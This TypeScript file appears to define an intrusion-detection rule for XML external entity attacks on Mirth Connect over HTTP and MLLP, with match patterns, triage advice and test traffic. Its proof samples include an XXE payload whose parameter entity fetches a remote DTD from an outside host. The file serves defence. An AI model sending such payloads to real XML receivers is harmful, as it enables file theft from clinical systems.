import { detection } from '../../scripts/kinds/detection';
import { tcp } from '../../scripts/kinds/proof';
import { httpRequest, httpResponse } from '../../scripts/protocols/http/message';
import { XML_RECEIVER } from '../catalogue/devices';
import { MIRTH, MIRTH_CONNECT, MIRTH_FINDER } from './family';

/** As the finder's advisory has it, with another host. */
const EXTERNAL =
  '<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY % remote SYSTEM "http://198.51.100.9/x.dtd">\n%remote;]>\n<x/>';
/** A document type outside, and entities inside, in either quotes: none is an external entity. */
const OUTER_TYPE = '<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "x.dtd">\n<x/>';
const INNER_ENTITY =
  '<?xml version="1.0"?>\n<!DOCTYPE x [\n<!ENTITY a "SYSTEM">\n<!ENTITY b \'SYSTEM\'>\n]>\n<x>&a;&b;</x>';

export default detection(MIRTH, {
  id: 'mirth-connect/external-entity',
  title: 'message in XML with an external entity, which a reader with the flaw fetches',
  message: 'given an external entity',
  grade: 'attempted',
  severity: 'Major',
  confidence: 'Medium',
  evidence: 'primary',
  // Nothing in the bytes says who reads them: the flaw that gives them is Mirth Connect's.
  devices: [XML_RECEIVER, MIRTH_CONNECT],
  observable: {
    kind: 'any-of',
    parts: [
      {
        name: 'http',
        traffic: {
          kind: 'http-message',
          from: 'client',
          body: [{ text: '<!DOCTYPE' }, { text: '<!ENTITY', then: 'SYSTEM', without: '>"\'' }],
          usualPort: 8080,
        },
      },
      {
        name: 'mllp',
        traffic: {
          kind: 'stream-sequence',
          device: 'receiver',
          sequences: [
            {
              name: 'entity',
              steps: [
                { bytes: '0b3c3f786d6c' },
                // Without the two characters before it: what is looked for first is then the entity, not every page.
                { within: 200, text: 'DOCTYPE' },
                { within: 500, text: '<!ENTITY' },
                // An entity inside ends, or has its text in quotes, before it.
                { within: 100, text: 'SYSTEM', without: '>"\'' },
              ],
            },
          ],
          idleBytes: 65536,
          otherMessages: [],
          usualPort: 6661,
        },
      },
    ],
    suppressSeconds: 3600,
  },
  classtype: 'attempted-admin',
  references: [
    { kind: 'cve', id: 'CVE-2026-78224' },
    { kind: 'cve', id: 'CVE-2026-82578' },
    MIRTH_FINDER,
  ],
  meaning:
    'A message in XML names an external entity: up to version 4.7.1, Mirth Connect fetches what it names, and can be made to send files of its own there. No clinical message needs one. Other software is attacked in the same way.',
  doNow: [
    'Look for a connection of the receiver to the host that the message names, for a .dtd and then for more: then files left.',
    'Look up who sent the message, and install the version that mends it.',
  ],
  falsePositives: [
    'Scanners for vulnerabilities, and XML with external entities in other software.',
  ],
  blindSpots: [
    'Inside TLS.',
    'Over HTTP: a document type that begins behind the first 4 kB of a body.',
  ],
  created: '2026-11-26',
  proof: {
    alerts: [
      {
        name: 'over HTTP',
        flows: [
          tcp('10.20.0.6', '10.20.0.9:8090', [
            {
              from: 'client',
              bytes: httpRequest('POST', '/in', { type: 'text/xml', content: EXTERNAL }),
            },
            { from: 'server', bytes: httpResponse('200 OK') },
          ]),
        ],
      },
      {
        name: 'in an MLLP frame',
        flows: [
          tcp('10.20.0.6', '10.20.0.9:6661', [
            { from: 'client', text: `\x0b${EXTERNAL}\x1c\r` },
            { from: 'server', text: '\x06' },
          ]),
        ],
      },
    ],
    silent: [
      {
        name: 'a document type outside and an entity inside, over HTTP',
        flows: [
          tcp('10.20.0.6', '10.20.0.9:8090', [
            {
              from: 'client',
              bytes: httpRequest('POST', '/in', { type: 'text/xml', content: OUTER_TYPE }),
            },
            { from: 'server', bytes: httpResponse('200 OK') },
            {
              from: 'client',
              bytes: httpRequest('POST', '/in', { type: 'text/xml', content: INNER_ENTITY }),
            },
            { from: 'server', bytes: httpResponse('200 OK') },
          ]),
        ],
      },
      {
        name: 'a document type outside and an entity inside, in MLLP frames',
        flows: [
          tcp('10.20.0.6', '10.20.0.9:6661', [
            { from: 'client', text: `\x0b${OUTER_TYPE}\x1c\r` },
            { from: 'server', text: '\x06' },
            { from: 'client', text: `\x0b${INNER_ENTITY}\x1c\r` },
            { from: 'server', text: '\x06' },
          ]),
        ],
      },
    ],
  },
});
